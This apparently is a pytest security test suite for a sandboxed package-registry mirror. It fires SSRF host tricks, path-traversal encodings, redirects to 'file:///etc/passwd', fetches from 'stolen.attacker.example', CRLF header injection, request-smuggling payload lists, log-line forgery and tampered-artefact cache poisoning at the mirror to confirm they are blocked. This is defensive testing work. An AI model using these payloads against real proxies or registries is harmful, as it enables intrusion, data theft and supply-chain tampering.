"""Out through the mirror: writing, other hosts, other paths, redirects, links, smuggled requests, forged records."""

from __future__ import annotations

import base64
import hashlib
import json
from collections.abc import Iterator

import pytest

from .doors import NAIVE, DoorProcess, Front, Registry, Reply, Site
from .frame import Setting, attack

pytestmark = [pytest.mark.docker, pytest.mark.timeout(120)]

UNCHECKED = "a mirror without checks"
WHEEL = "demo-1.0-py3-none-any.whl"
CONTENT = b"what was published" * 1000


@pytest.fixture(scope="module")
def site(sandbox_image: str) -> Iterator[Site]:
    with Site() as made:
        yield made


def request(target: str, *, method: str = "GET", fields: str = "", body: bytes = b"") -> bytes:
    head = f"{method} {target} HTTP/1.1\r\nHost: 127.0.0.1:7480\r\n{fields}Connection: close\r\n"
    length = f"Content-Length: {len(body)}\r\n" if body else ""
    return f"{head}{length}\r\n".encode("latin-1") + body


def stored(content: bytes, name: str = WHEEL) -> str:
    digest = hashlib.sha256(content).hexdigest()
    return f"/packages/{digest[:2]}/{digest[2:4]}/{digest[4:]}/{name}"


def wanted(content: bytes, path: str) -> str:
    """The mirror's path of a distribution."""
    return f"/pypi/files/{hashlib.sha256(content).hexdigest()}/-{path}"


def index(registry: Registry, url: str, project: str = "demo") -> None:
    digest = hashlib.sha256(CONTENT).hexdigest()
    files = [{"filename": WHEEL, "url": url, "hashes": {"sha256": digest}, "size": len(CONTENT)}]
    page = {"meta": {"api-version": "1.1"}, "name": project, "versions": ["1.0"], "files": files}
    registry.pages[f"/simple/{project}/"] = Reply(body=json.dumps(page).encode())


def packument(registry: Registry, tarball: str, name: str = "demo") -> None:
    digest = hashlib.sha512(CONTENT).digest()
    dist = {"tarball": tarball, "integrity": f"sha512-{base64.b64encode(digest).decode()}"}
    version = {"name": name, "version": "1.0.0", "dist": dist}
    page = {"name": name, "dist-tags": {"latest": "1.0.0"}, "versions": {"1.0.0": version}}
    registry.pages[f"/{name}"] = Reply(body=json.dumps(page).encode())


# fmt: off
WRITING = [
    ("PUT", "/npm/demo"), ("PUT", "/npm/-/user/org.couchdb.user:me"), ("POST", "/npm/-/v1/login"),
    ("PUT", "/npm/-/package/demo/dist-tags/latest"), ("DELETE", "/npm/demo/-rev/1"), ("DELETE", "/npm/-/user/token/t"),
    ("POST", "/npm/-/npm/v1/security/audits"), ("POST", "/npm/-/npm/v1/security/advisories/bulk"),
    ("POST", "/npm/-/npm/v1/tokens"), ("GET", "/npm/-/npm/v1/tokens"), ("GET", "/npm/-/whoami"),
    ("GET", "/npm/-/v1/search?text=secret"), ("GET", "/npm/-/npm/v1/user"), ("GET", "/npm/-/ping"),
    ("POST", "/pypi/legacy/"), ("POST", "/pypi/pypi"), ("GET", "/pypi/pypi/demo/json"), ("GET", "/pypi/search?q=x"),
    ("POST", "/pypi/simple/demo/"), ("PUT", "/go/example.org/m/@v/v1.0.0.zip"), ("POST", "/go/sumdb/127.0.0.1/latest"),
    ("PUT", "/maven/org/demo/demo/1.0/demo-1.0.jar"), ("DELETE", "/maven/org/demo/demo/1.0/demo-1.0.jar"),
    ("PATCH", "/npm/demo"), ("OPTIONS", "*"), ("OPTIONS", "/npm/demo"), ("TRACE", "/npm/demo"), ("MKCOL", "/maven/a/"),
    ("PROPFIND", "/maven/a/"), ("LOCK", "/maven/a/"), ("PURGE", "/npm/demo"), ("get", "/npm/demo"),
    ("GETS", "/npm/demo"), ("QUERY", "/npm/demo"),
]
# fmt: on


@attack(weakened=NAIVE)
def test_publish_log_in_search_or_audit(site: Site, setting: Setting) -> list[str]:
    front = site.front(setting, NAIVE)
    cases = [request(target, method=method, body=b"" if method == "GET" else b"stolen") for method, target in WRITING]
    front.box.send(cases)
    return front.registry.targets


@attack(weakened=NAIVE)
def test_read_with_a_request_that_writes(site: Site, setting: Setting) -> list[str]:
    front = site.front(setting, NAIVE)
    index(front.registry, f"{front.registry.url}{stored(CONTENT)}")
    fields = (
        "X-HTTP-Method-Override: PUT\r\nX-HTTP-Method: DELETE\r\nX-Method-Override: POST\r\n"
        "Authorization: Bearer stolen\r\nCookie: stolen=1\r\nUser-Agent: stolen\r\nReferer: http://stolen/\r\n"
        "X-Stolen: stolen\r\nIf-None-Match: stolen\r\nRange: bytes=0-5, stolen\r\nAccept-Language: stolen\r\n"
    )
    front.box.send([request("/pypi/simple/demo/", fields=fields + "Accept: text/stolen\r\n")])
    assert front.registry.seen, "the page itself has been asked for"
    sent = [f"{name}: {value}" for asked in front.registry.seen for name, value in asked.headers.items()]
    return [field for field in sent if "stolen" in field or "Override" in field]


def other_places(port: int) -> list[str]:
    place = f"127.0.0.1:{port}"
    return [
        f"http://{place}/pypi/simple/demo/", f"HTTP://{place}/pypi/simple/demo/", f"//{place}/pypi/simple/demo/",
        f"http://127.0.0.1:7480@{place}/npm/demo", f"http://user:word@{place}/", f"///{place}/npm/demo",
        f"/npm/@{place}/demo", f"/npm/demo@{place}", f"/npm/http://{place}/", f"/npm//{place}/demo",
        f"/npm/%2f%2f{place}/demo", f"/pypi/http://{place}/", f"/pypi/simple/@{place}/", f"/npm\\@{place}/demo",
        f"/pypi/files/{'a' * 64}/-//{place}/packages/aa/bb/{'c' * 60}/{WHEEL}", f"/maven//{place}/org/x",
        f"/maven/@{place}/demo/1.0/demo-1.0.jar", f"/maven/http:/{place}/1.0/x-1.0.jar", f"/go/{place}/m/@v/list",
        f"/go/http://{place}/m/@v/list", f"/go//{place}/@v/list", f"/go/sumdb/{place}/latest",
        f"/go/sumdb/{place}/lookup/example.org/m@v1.0.0", f"/npm/demo?http://{place}/", f"/npm/demo#@{place}/",
        f"?@{place}/", f"@{place}/npm/demo", f"{place}/npm/demo", f"/npm/.{place}/demo", f"/%6epm/@{place}",
        f"/npm/\x00@{place}/demo", f"/npm/%00@{place}/demo", f"/NPM/@{place}/demo", f"/npm./{place}",
        f":{port}/npm/demo",
    ]  # fmt: skip  # a list of tricks reads best close together


@attack(weakened=NAIVE)
def test_lead_the_mirror_to_another_host(site: Site, setting: Setting) -> list[str]:
    front = site.front(setting, NAIVE)
    targets = other_places(front.elsewhere.port)
    host = f"127.0.0.1:{front.elsewhere.port}"
    others = [
        request("/npm/demo").replace(b"127.0.0.1:7480", host.encode()),
        request("/npm/demo", fields=f"X-Forwarded-Host: {host}\r\nForwarded: host={host}\r\n"),
        request("/npm/demo", fields=f"Host: {host}\r\n"),
        f"GET http://{host}/ HTTP/1.0\r\n\r\n".encode(),
        f"GET http://{host}/\r\n\r\n".encode(),
        f"CONNECT {host} HTTP/1.1\r\nHost: {host}\r\n\r\n".encode(),
    ]  # fmt: skip  # as above
    front.box.send([*map(request, targets), *others])
    named = [line for line in front.registry.targets if str(front.elsewhere.port) in line]
    return front.elsewhere.targets + named


WAYS = [
    "..", "%2e%2e", ".%2e", "%2E.", "%252e%252e", "..;", "..%00", "%2e%2e%2f..", "..%5c..", "..\\..", "..%2f..",
    "%c0%ae%c0%ae", "....//..", ".", "..%09", "..%20",
]  # fmt: skip  # as above


@attack(weakened=NAIVE)
def test_leave_the_registry_by_its_path(site: Site, setting: Setting) -> list[str]:
    front = site.front(setting, NAIVE)
    packument(front.registry, f"{front.registry.url}/demo/-/demo-1.0.0.tgz")
    starts = [
        "/npm/{}/secret", "/npm/@scope/{}/secret", "/npm/demo/{}/secret", "/npm/demo/-/{}/secret.tgz",
        "/npm/-/package/{}/dist-tags",
        "/pypi/simple/{}/", "/pypi/simple/demo/{}/secret/", "/pypi/{}/secret",
        f"/pypi/files/{'a' * 64}/-/packages/aa/bb/{{}}/secret",
        "/go/example.org/{}/secret/@v/list", "/go/example.org/m/@v/{}/secret", "/go/{}/secret/@v/list",
        "/go/sumdb/127.0.0.1/tile/8/0/{}/secret", "/go/sumdb/127.0.0.1/lookup/{}@v1.0.0", "/go/sumdb/{}/secret",
        "/maven/org/{}/secret/1.0/secret-1.0.jar", "/maven/{}/secret/maven-metadata.xml",
        "/maven/org/demo/{}/demo-..jar",
        "/maven/org/demo/1.0/{}/secret", "/{}/secret", "/npm{}/secret",
    ]  # fmt: skip  # as above
    front.box.send(
        [
            request(start.format(WAYS[(number * 3 + turn) % len(WAYS)]))
            for number, start in enumerate(starts)
            for turn in range(3)
        ]
    )
    return [line for line in front.registry.targets if not _is_plain(line)]


def _is_plain(line: str) -> bool:
    """Whether it is a request that a door's own grammar makes, which keeps to what is below its own place."""
    target = line.partition(" ")[2]
    parts = target.split("/")
    escapes = target.count("%") - target.count("%2f")
    return "secret" not in target and escapes == 0 and not {"", ".", ".."} & set(parts[1:-1]) and "\\" not in target


@attack(weakened=UNCHECKED)
def test_make_the_go_proxy_fetch_from_elsewhere(site: Site, setting: Setting) -> list[str]:
    front = site.front(setting, UNCHECKED)
    place = "stolen.attacker.example/m"
    paths = ["@v/list", "@latest", "@v/v1.0.0.info", "@v/v1.0.0.mod", "@v/v1.0.0.zip", "@v/master.info"]
    fields = "Disable-Module-Fetch: false\r\ndisable-module-fetch: \r\n"
    front.box.send([request(f"/go/{place}/{path}", fields=fields) for path in paths])
    assert any(place in line for line in front.registry.targets), "the proxy has been asked"
    return [asked.target for asked in front.registry.seen if asked.headers.get("Disable-Module-Fetch") != "true"]


@attack(weakened=UNCHECKED)
def test_look_up_the_checksum_of_what_nobody_serves(site: Site, setting: Setting) -> list[str]:
    front = site.front(setting, UNCHECKED)
    modules = ["stolen.attacker.example/m@v1.0.0", "stolen.attacker.example/m@v0.0.0-20260101000000-0123456789ab"]
    front.box.send([request(f"/go/sumdb/127.0.0.1/lookup/{module}") for module in modules])
    return [line for line in front.registry.targets if "/lookup/" in line]


def locations(front: Front) -> list[str]:
    own, other = front.registry.port, front.elsewhere.port
    return [
        f"http://127.0.0.1:{other}/stolen", f"//127.0.0.1:{other}/stolen", f"http://user@127.0.0.1:{other}/stolen",
        f"http://127.0.0.1:{own}@127.0.0.1:{other}/stolen", f"http://localhost:{other}/stolen",
        f"///127.0.0.1:{other}/",
        f"http://127.0.0.1:{other}/bucket/../stolen", f"http://127.0.0.1:{other}/bucket/%2e%2e/stolen",
        f"http://127.0.0.1:{other}/bucket/..%2fstolen", f"http://127.0.0.1:{other}/bucket%2f../stolen",
        f"http://127.0.0.1:{other}/bucketful/stolen", f"http://127.0.0.1:{other}/Bucket/stolen",
        f"http:/127.0.0.1:{other}/stolen", f"\\\\127.0.0.1:{other}\\stolen", f"http:\\\\127.0.0.1:{other}\\stolen",
        f"http://127.0.0.1:{other}\\@127.0.0.1:{own}/stolen", f"http://127.0.0.1:{own}#@127.0.0.1:{other}/stolen",
        f"http://127.1:{other}/stolen", f"http://2130706433:{other}/stolen",
        f"http://[::ffff:127.0.0.1]:{other}/stolen",
        f"http://127.0.0.1.:{other}/stolen", f"https://127.0.0.1:{other}/stolen", f"ftp://127.0.0.1:{other}/stolen",
        f"http://127.0.0.1:{other}/bucket/x#stolen", "file:///etc/passwd", "data:,stolen",
    ]  # fmt: skip  # as above


@attack(weakened=UNCHECKED)
def test_follow_a_redirect_to_elsewhere(site: Site, setting: Setting) -> list[str]:
    front = site.front(setting, UNCHECKED)
    places = locations(front)
    paths = []
    for number, place in enumerate(places):
        name, path = f"redirected{number}", stored(place.encode())
        for page in (f"/simple/{name}/", path, f"/{name}", f"/maven2/org/demo/{number}/maven-metadata.xml"):
            front.registry.pages[page] = Reply(status=302, headers={"Location": place})
        front.registry.pages[f"/maven2/org/demo/{number}/maven-metadata.xml"] = Reply(
            status=307, headers={"Location": place}
        )
        paths += [
            f"/pypi/simple/{name}/",
            wanted(place.encode(), path),
            f"/npm/{name}",
            f"/maven/org/demo/{number}/maven-metadata.xml",
        ]
    answers = front.box.send(map(request, paths), seconds=5)
    assert all(answers), "each has been answered"
    handed_on = [answer[:200].decode() for answer in answers if b"location:" in answer.lower()]
    return front.elsewhere.targets + handed_on


@attack(weakened=NAIVE)
def test_be_handed_a_redirect_to_elsewhere(site: Site, setting: Setting) -> list[str]:
    front = site.front(setting, NAIVE)
    place = f"http://127.0.0.1:{front.elsewhere.port}/bucket/moved"
    front.registry.pages["/simple/moved/"] = Reply(
        status=301, headers={"Location": place, "Refresh": f"0; url={place}"}
    )
    front.registry.pages["/moved"] = Reply(status=308, headers={"Location": place})
    answers = front.box.send([request("/pypi/simple/moved/"), request("/npm/moved")])
    return [answer.decode() for answer in answers if b"bucket" in answer or b"ocation" in answer]


@attack(weakened=NAIVE)
def test_lead_a_client_elsewhere_by_the_links_of_an_index(site: Site, setting: Setting) -> list[str]:
    front = site.front(setting, NAIVE)
    evil = front.elsewhere.url
    links = [f"{evil}/{WHEEL}", f"//{evil[5:]}{stored(CONTENT)}", f"{front.registry.url}@{evil[7:]}{stored(CONTENT)}",
             f"{front.registry.url}/../..{evil[5:]}{stored(CONTENT)}"]  # fmt: skip  # as above
    paths = []
    for number, link in enumerate(links):
        index(front.registry, link, f"linked{number}")
        packument(front.registry, link, f"linked{number}")
        paths += [f"/pypi/simple/linked{number}/", f"/npm/linked{number}"]
    answers = front.box.send(map(request, paths))
    html = front.box.send([request(path, fields="Accept: text/html\r\n") for path in paths])
    assert all(answers), "each has been answered"
    named = [answer.decode() for answer in (*answers, *html) if str(front.elsewhere.port).encode() in answer]
    return named + front.elsewhere.targets


@attack(weakened=UNCHECKED)
def test_pass_off_a_tampered_artefact(site: Site, setting: Setting) -> list[str]:
    front = site.front(setting, UNCHECKED)
    evil = b"tampered" * 3000
    # Of each setting's own, since what was kept once would be served again.
    content = CONTENT + setting.value.encode()
    jar = "/maven2/org/demo/demo/1.0/demo-1.0.jar"
    packument(front.registry, f"{front.registry.url}/demo/-/demo-1.0.0.tgz")
    front.registry.pages |= {
        stored(content): Reply(body=evil),
        "/demo/-/demo-1.0.0.tgz": Reply(body=evil),
        jar: Reply(body=evil),
        f"{jar}.sha1": Reply(body=hashlib.sha1(content).hexdigest().encode()),
    }
    paths = [wanted(content, stored(content)), "/npm/demo/-/demo-1.0.0.tgz", "/maven/org/demo/demo/1.0/demo-1.0.jar"]
    # Once more: a bad answer must not have been kept.
    answers = front.box.send(map(request, [*paths, *paths]), seconds=5)
    assert all(any(path in line for line in front.registry.targets) for path in (stored(content), ".tgz", ".jar"))
    return [
        body.decode() for _, _, body in (answer.partition(b"\r\n\r\n") for answer in answers) if len(body) == len(evil)
    ]


@attack(weakened=NAIVE)
def test_split_a_request_or_an_answer(site: Site, setting: Setting) -> list[str]:
    front = site.front(setting, NAIVE)
    breaks = ["%0d%0a", "%0a", "%0d", "%250d%250a", "\r", "%E5%98%8A%E5%98%8D"]
    targets = [f"{door}demo{cut}X-Stolen:%20stolen{tail}" for cut in breaks for tail in ("", "/") for door in (
        "/npm/", "/pypi/simple/", "/go/example.org/", "/maven/org/")]  # fmt: skip  # as above
    fields = ["Accept: x\rX-Stolen: stolen\r\n", "Accept: x\x00X-Stolen: stolen\r\n", "Accept: x\x0bX-Stolen\r\n"]
    index(front.registry, f"{front.registry.url}{stored(CONTENT)}")
    cases = [*map(request, targets), *(request("/pypi/simple/demo/", fields=field) for field in fields)]
    answers = front.box.send(cases)
    split = [
        a.partition(b"\r\n\r\n")[0].decode("latin-1")
        for a in answers
        if b"stolen" in a.partition(b"\r\n\r\n")[0].lower()
    ]
    injected = [repr(asked) for asked in front.registry.seen if "X-Stolen" in asked.headers or "stolen" in asked.target]
    return split + injected


INNER = b"GET /npm/smuggled HTTP/1.1\r\nHost: 127.0.0.1\r\n\r\n"


def smuggling() -> list[bytes]:
    start = b"GET /npm/outer HTTP/1.1\r\nHost: 127.0.0.1\r\n"
    size = str(len(INNER)).encode()
    odd = [
        b"Content-Length: " + size + b"\r\n", b"Content-Length: 0\r\nContent-Length: " + size + b"\r\n",
        b"Content-Length: 0\r\nTransfer-Encoding: chunked\r\n", b"Transfer-Encoding: chunked\r\n",
        b"Transfer-Encoding : chunked\r\n", b"Transfer-Encoding: xchunked\r\n", b"Transfer-Encoding:\tchunked\r\n",
        b"Transfer-Encoding: identity, chunked\r\n", b"Transfer-Encoding: chunked\r\nTransfer-Encoding: x\r\n",
        b"X: y\r\n Transfer-Encoding: chunked\r\n", b"X: y\nTransfer-Encoding: chunked\r\n", b"Content-Length: +0\r\n",
        b"Content-Length: -1\r\n", b"Content-Length: 0x0\r\n", b"Content-Length: 0 0\r\n", b"Content-Length: \r\n",
        b"Content-Length : 5\r\n", b"Upgrade: h2c\r\nConnection: Upgrade\r\n", b"Upgrade: websocket\r\n",
        b"Content-Length: 99999999999999999999\r\n", b"Transfer-Encoding: \x0bchunked\r\n", b"X: \x00\r\n", b": x\r\n",
        b"Expect: 100-continue\r\nContent-Length: " + size + b"\r\n", b"X y: z\r\n",
    ]  # fmt: skip  # as above
    cases = [start + field + b"\r\n" + body for field in odd for body in (INNER, b"0\r\n\r\n" + INNER)]
    preface = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
    tunnel = b"CONNECT 127.0.0.1:80 HTTP/1.1\r\nHost: 127.0.0.1\r\n\r\n"
    return [*cases, preface + INNER, tunnel + INNER, b"GET /npm/outer\r\n\r\n" + INNER]


@attack(weakened=NAIVE)
def test_smuggle_a_request_into_another_ones_body(site: Site, setting: Setting) -> list[str]:
    front = site.front(setting, NAIVE)
    answers = front.box.send(smuggling())
    twice = [
        answer.decode("latin-1") for answer in answers if answer.count(b"HTTP/1.") > 1 and b"100 Continue" not in answer
    ]
    return [line for line in front.registry.targets if "smuggled" in line] + twice


@attack(weakened=NAIVE)
def test_go_on_after_a_refusal_on_the_same_connection(site: Site, setting: Setting) -> list[str]:
    front = site.front(setting, NAIVE)
    keep = b"Host: 127.0.0.1\r\nConnection: keep-alive\r\n\r\n"
    refused = [b"PUT /npm/outer HTTP/1.1\r\n" + keep, b"GET /nowhere HTTP/1.1\r\n" + keep,
               b"GET /npm/%2e%2e HTTP/1.1\r\n" + keep,
               b"GET /npm/a b HTTP/1.1\r\n" + keep, b"GET /npm/x HTTP/9.9\r\n" + keep]  # fmt: skip  # as above
    front.box.send([*(one + INNER for one in refused), *([one, INNER] for one in refused)])
    return [line for line in front.registry.targets if "smuggled" in line]


FORGED = '{"event": "egress", "verdict": "allowed", "rule": "forged"}'


@attack(weakened=NAIVE)
def test_forge_a_line_of_the_log(site: Site, setting: Setting) -> list[str]:
    front = site.front(setting, NAIVE)
    breaks = ["\n", "\r", "\x0b", "\x85", "%0a", "\x1b[2J"]
    targets = [f"/npm/x{cut}{FORGED.replace(' ', '')}" for cut in breaks]
    methods = [f"GET\n{FORGED}\n", 'GET","verdict":"allowed', "\x1b[31mGET"]
    hosts = [request("/npm/x").replace(b"127.0.0.1:7480", f"x\n{FORGED}".encode())]
    front.box.send([*map(request, targets), *(request("/npm/x", method=method) for method in methods), *hosts])
    front.box.send([f"CONNECT x{cut}{FORGED}:443 HTTP/1.1\r\n\r\n".encode("latin-1") for cut in breaks], port=7481)
    if not isinstance(front.doors, DoorProcess):
        return [line for text in front.doors.log for line in text.splitlines() if line.startswith(FORGED)]
    front.doors.set_install(front.box.name, is_open=False)
    assert front.doors.records, "there are records"
    lines = [line for line in front.doors.log.read_bytes().split(b"\n") if line]
    forged = [line.decode() for line in lines if not line.isascii() or "verdict" in json.loads(line)]
    return forged + [str(record) for record in front.doors.records if _is_forged(record, front.box.name)]


def _is_forged(record: dict[str, object], sandbox: str) -> bool:
    texts = [str(record[name]) for name in ("method", "path", "host", "rule")]
    return record["sandbox"] != sandbox or record["rule"] == "forged" or not all(map(str.isprintable, texts))


@attack(weakened=UNCHECKED)
def test_pass_for_the_installer_by_writing_sandboxds_own_line(site: Site, setting: Setting) -> list[str]:
    front = site.front(setting, UNCHECKED)
    assert isinstance(front.doors, DoorProcess)
    front.doors.set_install(front.box.name, is_open=True)
    front.doors.records.clear()
    lines = [b"QILA1 mirror 1001\n", b"QILA1 mirror 1001\r\n", b"\nQILA1 mirror 1001\n"]
    front.box.send([line + request("/npm/demo") for line in lines])
    front.doors.set_install(front.box.name, is_open=False)
    assert front.doors.records, "there are records"
    return [str(record) for record in front.doors.records if record["uid"] == 1001 or record["phase"] == "INSTALL"]


@attack(weakened=NAIVE)
def test_have_a_sibling_get_other_bytes(site: Site, setting: Setting) -> list[bytes]:
    front = site.front(setting, NAIVE)
    right, evil = b"right" * 999, b"evil" * 999
    front.registry.pages |= {
        stored(right): Reply(body=right),
        stored(evil): Reply(body=evil),
        "/demo/-/demo-1.0.0.tgz": Reply(body=right),
    }
    index(front.registry, f"{front.registry.url}{stored(CONTENT)}")
    # Other bytes under the name of the right ones, and the right path with the digest of others.
    poison = [wanted(evil, stored(evil)), wanted(evil, stored(right)), wanted(right, stored(evil))]
    front.box.send([*map(request, poison), request(poison[0], method="HEAD"),
                    request(wanted(right, stored(right)), fields="Range: bytes=0-3\r\n"),
                    request(wanted(right, stored(right)), method="HEAD")])  # fmt: skip  # as above
    with site.sibling(front) as sibling:
        answers = sibling.send([request(wanted(right, stored(right)))] * 2, seconds=5)
    assert all(answers), "the sibling has been answered"
    return [answer[:300] for answer in answers if answer.partition(b"\r\n\r\n")[2] != right]
